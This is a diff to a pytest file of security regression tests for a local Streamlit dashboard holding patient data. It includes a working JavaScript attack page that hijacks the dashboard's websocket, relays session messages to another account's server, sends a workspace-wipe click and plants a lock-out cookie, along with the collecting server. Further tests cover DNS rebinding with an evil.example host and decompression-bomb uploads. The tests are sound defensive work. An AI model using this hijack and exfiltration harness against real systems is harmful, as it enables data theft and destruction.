@@ -177,7 +177,11 @@ ROUTES = ["/", "/choose", "/_stcore/metrics", "/_stcore/host-config", "/_stcore/
 
 def _imported_here() -> None:
     """What the other account's code uses, imported before it is forked (it then reads no file of the project's)."""
+    import base64  # noqa: F401
     import http.client  # noqa: F401
+    import http.server  # noqa: F401
+    import json  # noqa: F401
+    import socketserver  # noqa: F401
 
     import streamlit.proto.BackMsg_pb2  # noqa: F401
     import streamlit.proto.ForwardMsg_pb2  # noqa: F401
@@ -387,25 +391,397 @@ def test_the_launcher_prints_one_address_with_the_token_once_the_server_answers(
         assert len(refused.stderr.strip().splitlines()) == 1
     elsewhere = tmp_path / "elsewhere"  # started from another folder: the project's settings file still holds
     elsewhere.mkdir()
+    import pty
+
+    leader, follower = pty.openpty()  # a terminal: the owner's own console
     process = subprocess.Popen([sys.executable, "-m", "tvs_core", "dashboard", "--workspace", str(tmp_path / "space")],
-                               cwd=elsewhere, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=subprocess.PIPE,
-                               stderr=subprocess.STDOUT, text=True, start_new_session=True)
+                               cwd=elsewhere, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=follower,
+                               stderr=follower, text=True, start_new_session=True)
+    os.close(follower)
     try:
-        said = []
-        while not said or "open for you at" not in said[-1]:
-            ready, _, _ = select.select([process.stdout], [], [], 600)
-            assert ready and process.poll() is None, "".join(said)
-            said.append(process.stdout.readline())
-        address = said[-1].split("open for you at ")[1].strip()
+        said = ""
+        while "open for you at" not in said or not said.endswith("\n"):
+            ready, _, _ = select.select([leader], [], [], 600)
+            assert ready and process.poll() is None, said
+            said += os.read(leader, 65536).decode(errors="replace").replace("\r\n", "\n")
+        lines = said.splitlines()
+        opened = next(line for line in lines if "open for you at" in line)
+        address = opened.split("open for you at ")[1].strip()
         port = int(address.split(":")[2].split("/")[0])
         assert _answers(port), "the address was printed before the server answered"
         token = (tmp_path / "space" / "access-token").read_text().strip()
         assert address == f"http://127.0.0.1:{port}/?token={token}"
-        addresses = [line for line in said if "http://" in line or "URL:" in line]
-        assert addresses == [said[-1]], said  # Streamlit's own "URL: http://127.0.0.1:…" is not printed
+        addresses = [line for line in lines if "http://" in line or "URL:" in line]
+        assert addresses == [opened], said  # Streamlit's own "URL: http://127.0.0.1:…" is not printed
         settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
         assert settings["browser"]["gatherUsageStats"] is False  # nothing leaves the machine
         assert Path(f"/proc/{process.pid}/cwd").resolve() == ROOT.resolve()
     finally:
         os.killpg(process.pid, signal.SIGKILL)
         process.wait()
+        os.close(leader)
+
+
+def test_a_console_redirected_to_a_file_others_can_read_holds_no_token(tmp_path, debian_umask):
+    """The review's finding: ``python -m tvs_core dashboard > dash.log &`` under umask 022 wrote the address with
+    the token into a 0644 file, which any account reads in a 0755 home. The log says where the token is kept."""
+    import sys
+
+    from tests.helpers import ROOT
+
+    log = tmp_path / "dash.log"
+    with open(log, "w") as out:  # 0644: the umask of a Debian account
+        process = subprocess.Popen([sys.executable, "-m", "tvs_core", "dashboard", "--workspace",
+                                    str(tmp_path / "space")], cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
+                                   stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
+    try:
+        from tests.helpers import wait_until
+
+        wait_until(lambda: "open for you at" in log.read_text() or process.poll() is not None,
+                   "the dashboard says its address", 600)
+        said = log.read_text()
+        token = (tmp_path / "space" / "access-token").read_text().strip()
+        assert "open for you at http://127.0.0.1:" in said and token not in said, said
+        assert str(tmp_path / "space" / "access-token") in said
+        assert log.stat().st_mode & 0o077  # the file others may read: the very case
+    finally:
+        os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+
+
+# -- the third review: a page that another account serves on another port of 127.0.0.1 ------------------------------
+
+ATTACK_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>a page of another account</title></head><body>
+<p>Nothing to see here.</p>
+<script>
+const dashboard = "127.0.0.1:%(port)d";
+const report = {opened: false, messages: 0, closed: null, upload: null, read: null, planted: false};
+window.__report = report;
+const bytes = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
+let socket = null;
+try {
+  socket = new WebSocket("ws://" + dashboard + "/_stcore/stream", ["streamlit", "x"]);
+  socket.binaryType = "arraybuffer";
+  socket.onopen = () => { report.opened = true; socket.send(bytes("%(rerun)s")); };
+  socket.onmessage = (event) => { report.messages += 1; fetch("/loot", {method: "POST", body: event.data}); };
+  socket.onclose = (event) => { report.closed = event.code; };
+} catch (error) { report.closed = "refused: " + error.name; }
+async function relay() {  // what the attacker's server wants sent through the owner's session
+  const answer = await fetch("/next");
+  const text = await answer.text();
+  if (text && socket && socket.readyState === 1) { socket.send(bytes(text)); }
+}
+async function upload() {
+  try {
+    const session = await (await fetch("/session")).text();
+    const xsrf = decodeURIComponent((document.cookie.match(/_streamlit_xsrf=([^;]+)/) || [])[1] || "");
+    const form = new FormData();
+    form.append("file", new Blob(["age,y\\n1,0\\n"], {type: "text/csv"}), "planted.csv");
+    const answer = await fetch("http://" + dashboard + "/_stcore/upload_file/" + (session || "none") + "/planted",
+                               {method: "PUT", body: form, credentials: "include", headers: {"X-Xsrftoken": xsrf}});
+    report.upload = answer.status;
+  } catch (error) { report.upload = "refused: " + error.name; }
+}
+async function read() {
+  try {
+    const answer = await fetch("http://" + dashboard + "/_stcore/host-config", {credentials: "include"});
+    report.read = answer.status + " " + (await answer.text()).slice(0, 80);
+  } catch (error) { report.read = "refused: " + error.name; }
+}
+async function finish() {
+  await upload();
+  await read();
+  document.cookie = "%(cookie)s=tossed; path=/_stcore";  // the review's cookie, planted with a longer path
+  report.planted = true;
+  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
+}
+const pace = setInterval(async () => {
+  await relay();
+  const state = await (await fetch("/state")).text();  // the attacker's server says when it has done what it could
+  if (state === "done" || (socket && socket.readyState === 3)) { clearInterval(pace); finish(); }
+}, 300);
+</script></body></html>"""
+
+
+def _attack_server(port: int, dashboard: int, cookie: str, ceiling: float) -> dict:
+    """As the other account: serve the page above on ``port``, collect what it relays from the owner's dashboard
+    (ForwardMsgs), and — as the review did — when the Data page's "Wipe the workspace" button comes by, send the
+    click back through the owner's session. Returns what it got. Ends when the page reports, or at the ceiling."""
+    import base64
+    import json
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    from streamlit.proto.BackMsg_pb2 import BackMsg
+    from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
+
+    def rerun(trigger: str | None = None) -> str:
+        message = BackMsg()
+        message.rerun_script.query_string = ""
+        if trigger:
+            widget = message.rerun_script.widget_states.widgets.add()
+            widget.id, widget.trigger_value = trigger, True
+        return base64.b64encode(message.SerializeToString()).decode()
+
+    state = {"loot": [], "queue": [], "session": "", "wipe": None, "finished": 0, "report": None}
+    done = threading.Event()
+
+    def take(data: bytes) -> None:
+        state["loot"].append(data)
+        message = ForwardMsg()
+        try:
+            message.ParseFromString(data)
+        except Exception:  # noqa: BLE001 — not a ForwardMsg
+            return
+        if message.HasField("new_session"):
+            state["session"] = message.new_session.initialize.session_id
+        if message.HasField("delta") and message.delta.HasField("new_element"):
+            element = message.delta.new_element
+            if element.WhichOneof("type") == "button" and element.button.label == "Wipe the workspace" \
+                    and state["wipe"] is None:
+                state["wipe"] = element.button.id
+                state["queue"].append(rerun(element.button.id))
+        if message.HasField("script_finished"):
+            state["finished"] += 1
+
+    class Attacker(BaseHTTPRequestHandler):
+        def _answer(self, body: bytes, kind: str = "text/plain") -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", kind)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def do_GET(self):  # noqa: N802 (http.server's name)
+            if self.path == "/attack.html":
+                page = ATTACK_PAGE % {"port": dashboard, "rerun": rerun(), "cookie": cookie}
+                self._answer(page.encode(), "text/html; charset=utf-8")
+            elif self.path == "/next":
+                self._answer((state["queue"].pop(0) if state["queue"] else "").encode())
+            elif self.path == "/session":
+                self._answer(state["session"].encode())
+            elif self.path == "/state":  # done: the wipe was sent and a run has finished since
+                self._answer(b"done" if state["wipe"] and state["finished"] >= 2 else b"")
+            else:
+                self._answer(b"")
+
+        def do_POST(self):  # noqa: N802
+            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
+            if self.path == "/loot":
+                take(body)
+            elif self.path == "/report":
+                state["report"] = json.loads(body)
+                done.set()
+            self._answer(b"")
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", port), Attacker)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    done.wait(ceiling)
+    server.shutdown()
+    loot = b"".join(state["loot"])
+    return {"messages": len(state["loot"]),
+            "patient_columns": b"in_hospital_death" in loot or b"total_cost_eur" in loot,
+            "sidebar": "rows ×".encode() in loot or b"Dataset:" in loot, "wipe_sent": state["wipe"] is not None,
+            "session": state["session"], "report": state["report"]}
+
+
+@contextmanager
+def _interpreter_for(account):
+    """The owner's server run as a steward's account must be able to start this interpreter (CI's lives under
+    /root, which others cannot traverse): the folders on its path that others cannot enter are opened to traverse
+    (x, not read) for the test's length, and closed again."""
+    import sys
+
+    opened = []
+    try:
+        for path in {Path(sys.executable).resolve(), Path(sys.prefix).resolve(), Path(sys.base_prefix).resolve()}:
+            for folder in [*reversed(path.parents), path]:
+                if folder.is_dir() and not folder.stat().st_mode & 0o001:
+                    opened.append((folder, folder.stat().st_mode))
+                    os.chmod(folder, folder.stat().st_mode | 0o001)
+        yield
+    finally:
+        for folder, mode in reversed(opened):
+            os.chmod(folder, mode & 0o7777)
+
+
+def _owner_of(request):
+    """None: the owner's dashboard runs as root, as CI does; otherwise a steward's account of its own."""
+    if request.param == "root":
+        yield None
+        return
+    with second_account() as steward, _interpreter_for(steward):
+        yield steward
+
+
+@pytest.fixture(params=["root", "steward"])
+def owner(request):
+    yield from _owner_of(request)
+
+
+def test_a_page_on_another_port_reads_nothing_changes_nothing_and_locks_no_one_out(owner, other, tmp_path):
+    """The third review, step by step: the owner is signed in to the dashboard in Chromium; another account serves
+    a page on another port of 127.0.0.1, which the owner opens in another tab. Ports do not separate sites, so the
+    browser sends the owner's cookie with the page's requests. The page opens the dashboard's websocket, asks for
+    the Data page, relays every message to its own server, sends back the click of "Wipe the workspace" when it
+    sees the button, tries an upload and a read of the server's routes, then plants a cookie of the gate's name with
+    a longer path. Before the origin rule, it read the sidebar and the first 50 patient rows and emptied the
+    workspace; the planted cookie then locked the owner out. Now: no session, no data, nothing changed, and the
+    owner's next visit works. Run with the owner's dashboard as root and as a steward's own account."""
+    import threading
+
+    from tests.browser import CEILING, browser_page, free_port, running_server
+
+    _imported_here()
+    parent = owner.home if owner is not None else shared_parent()
+    workspace = parent / "workspace"
+    try:
+        with running_server(workspace, account=owner) as server, browser_page() as page:
+            page.goto(server.url)
+            page.get_by_text("1250 rows").first.wait_for()  # signed in: the owner's Data page
+            from tvs_core.gate import cookie_name
+
+            attack_port = free_port()
+            got = {}
+            attacker = threading.Thread(target=lambda: got.update(other.run(
+                _attack_server, attack_port, server.port, cookie_name(server.port), CEILING / 1000,
+                timeout=CEILING / 1000 + 60)))
+            attacker.start()
+            from tests.helpers import wait_until
+
+            wait_until(lambda: _listens(attack_port) or not attacker.is_alive(), "the other account's page is served",
+                       CEILING / 1000)
+            assert attacker.is_alive(), "the other account's server did not start (see the warning above)"
+            tab = page.context.new_page()
+            tab.goto(f"http://127.0.0.1:{attack_port}/attack.html")
+            attacker.join()
+            report = got["report"]
+            assert report is not None, got  # the page ran to its end and reported
+            assert not report["opened"] and report["messages"] == 0 and got["messages"] == 0, got
+            assert not got["patient_columns"] and not got["sidebar"] and not got["wipe_sent"], got
+            assert report["upload"] != 204 and not str(report["upload"]).startswith("2"), report
+            assert not str(report["read"]).startswith("2"), report
+            assert report["planted"]
+            # the owner's workspace is whole, and the owner's next visit works despite the planted cookie
+            assert (workspace / "studio.sqlite").exists() and (workspace / "access-token").exists()
+            assert not list(workspace.rglob("planted*"))
+            page.goto(f"http://127.0.0.1:{server.port}/")
+            page.get_by_text("1250 rows").first.wait_for()
+            page.get_by_role("link", name="2 · Sensitive features").click()  # a new run through the websocket
+            page.get_by_role("heading", name="Sensitive").first.wait_for()
+            cookies = [c for c in page.context.cookies() if c["name"] == cookie_name(server.port)]
+            assert len(cookies) == 2  # the planted one is there, and the owner's still opens the dashboard
+    finally:
+        if owner is None:
+            shutil.rmtree(parent, ignore_errors=True)
+
+
+def _listens(port: int) -> bool:
+    import socket
+
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=1):
+            return True
+    except OSError:
+        return False
+
+
+def test_a_request_naming_another_host_is_refused_by_the_running_server(tmp_path):
+    """DNS rebinding: a name that points at 127.0.0.1 (evil.example) makes a page same-origin with itself. The
+    server answers only to its own address: health, a page and the websocket, with the owner's cookie or without."""
+    import http.client
+
+    from tests.browser import running_server
+    from tvs_core.gate import cookie_name, cookie_value
+
+    with running_server(tmp_path / "workspace") as server:
+        signed_in = f"{cookie_name(server.port)}={cookie_value(server.token)}"
+        for path in ("/_stcore/health", "/", "/_stcore/host-config"):
+            for cookie in (None, signed_in):
+                connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
+                headers = {"Host": f"evil.example:{server.port}", **({"Cookie": cookie} if cookie else {})}
+                connection.request("GET", path, headers=headers)
+                answer = connection.getresponse()
+                body = answer.read().decode(errors="replace")
+                connection.close()
+                assert answer.status == 403 and "own address" in body, (path, cookie, answer.status, body[:200])
+        from websockets.exceptions import InvalidStatus
+        from websockets.sync.client import connect
+
+        with pytest.raises(InvalidStatus):
+            connect(f"ws://127.0.0.1:{server.port}/_stcore/stream", subprotocols=["streamlit"], open_timeout=60,
+                    origin=f"http://evil.example:{server.port}",
+                    additional_headers={"Host": f"evil.example:{server.port}", "Cookie": signed_in})
+
+
+def test_a_dashboard_upload_that_decodes_huge_is_refused_and_one_that_fits_is_held_once(tmp_path):
+    """The third review's 0.44 MB Parquet file of 2 × 50 M zeros grew the server from 337 MB to 6.9 GB with no message:
+    the child parsed it under its cap and handed it back whole. Uploaded on the Data page, it is refused in words
+    naming the limit and the server stays within 300 MB of where it was. A table the limits admit (a CSV of 400
+    columns × 25 k empty cells: 76 MB once read) opens with the server growing by at most twice its size."""
+    from tests.browser import browser_page, running_server, upload_and_weigh
+    from tests.data.bombs import empty_cells, parquet_zeros
+
+    zeros = parquet_zeros(tmp_path)
+    fits = empty_cells(tmp_path, rows=25_000, columns=400)
+    with running_server(tmp_path / "workspace") as server, browser_page() as page:
+        page.goto(server.url)
+        page.get_by_text("1250 rows").first.wait_for()
+        said, _, grown = upload_and_weigh(server, page, zeros)
+        assert said.startswith("Could not open zeros.parquet") and "TVS_MAX_ROWS" in said, said
+        assert grown <= 300, f"the server grew by {grown:.0f} MB to refuse it"
+        page.reload()
+        page.get_by_text("1250 rows").first.wait_for()
+        said, _, grown = upload_and_weigh(server, page, fits)
+        assert said.startswith("empty_cells.csv — 25000 rows × 400 columns"), said
+        size = 25_000 * 400 * 8 / 2**20
+        assert grown <= 2 * size, f"the server grew by {grown:.0f} MB to open a table of {size:.0f} MB"
+
+
+def _reading_children(pid: int) -> list[int]:
+    """The reading children of a process (``tvs_core.data.reader``'s), by their command line."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            stat = (entry / "stat").read_text()
+            command = (entry / "cmdline").read_bytes()
+        except OSError:
+            continue
+        if int(stat.rsplit(")", 1)[1].split()[1]) == pid and b"tvs_core.data.reader" in command:
+            found.append(int(entry.name))
+    return found
+
+
+@pytest.fixture(scope="module")
+def slow_file(tmp_path_factory):
+    """A workbook within every limit that openpyxl takes minutes to parse (built once: it takes a while)."""
+    from tests.data.bombs import slow_workbook
+
+    return slow_workbook(tmp_path_factory.mktemp("slow"))
+
+
+@pytest.mark.parametrize("stop", ["SIGTERM", "SIGINT"])
+def test_the_reading_child_ends_when_the_dashboard_is_stopped_mid_read(tmp_path, stop, slow_file):
+    """Ctrl-C (SIGINT) or SIGTERM to the dashboard while it reads an upload: the server exited, and the child that
+    parses (a session of its own) ran on with PPID 1 until its time or memory cap. Now it ends with the server."""
+    from tests.browser import browser_page, running_server
+    from tests.helpers import wait_until
+
+    slow = slow_file
+    with running_server(tmp_path / "workspace") as server, browser_page() as page:
+        page.goto(server.url)
+        page.get_by_text("1250 rows").first.wait_for()
+        page.locator('[data-testid="stFileUploaderDropzoneInput"]').first.set_input_files(str(slow))
+        children = wait_until(lambda: _reading_children(server.process.pid), "the upload is being read", 600)
+        os.killpg(server.process.pid, getattr(signal, stop))
+        server.process.wait(timeout=600)
+        server.process = None
+        wait_until(lambda: not any(Path(f"/proc/{child}").exists() and
+                                   (Path(f"/proc/{child}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z")
+                                   for child in children),
+                   "the reading child has ended with the dashboard", 60)
